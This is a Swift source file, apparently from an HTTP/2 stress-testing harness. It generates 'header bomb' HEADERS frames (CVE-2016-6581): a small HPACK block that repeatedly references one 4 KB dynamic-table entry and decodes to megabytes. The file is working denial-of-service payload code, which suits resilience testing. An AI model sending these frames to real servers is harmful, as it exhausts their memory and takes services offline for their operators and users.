/// Small header blocks that decode to megabytes, by naming one long field over and over
/// (CVE-2016-6581).
package struct HeaderBombs: Flood {
  /// The flood.
  package init() {}

  package func burst(_ turn: Int) -> [UInt8] {
    guard turn > 0 else { return RawFrame.preface }
    let field = RawFrame.indexedField(name: "x", valueCount: 4000)
    // 0xBE is the newest entry of the dynamic table: 4 KB for each byte.
    let block = RawFrame.requestFields + field + Array(repeating: 0xBE, count: 10_000)
    return RawFrame.frame(
      type: RawFrame.headers, flags: RawFrame.endHeaders | RawFrame.endStream,
      stream: RawFrame.stream(turn - 1), block)
  }
}
